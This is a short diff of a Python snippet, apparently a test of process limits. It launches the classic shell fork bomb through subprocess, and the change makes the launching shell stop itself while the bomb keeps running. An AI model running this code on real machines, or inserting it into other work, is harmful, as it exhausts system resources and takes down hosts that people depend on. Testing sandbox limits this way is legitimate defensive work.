@@ -1,5 +1,5 @@
-# 1: the classic, by a shell
-bomb = subprocess.Popen(["sh", "-c", "b() { b | b & }; b"], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-bomb.wait()
+# 1: the classic, by a shell that stays: stopped, and deaf to what is friendly
+bomb = "b() { b | b & }; b; kill -STOP $$"
+subprocess.Popen(["sh", "-c", bomb], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 time.sleep(2)
 report()
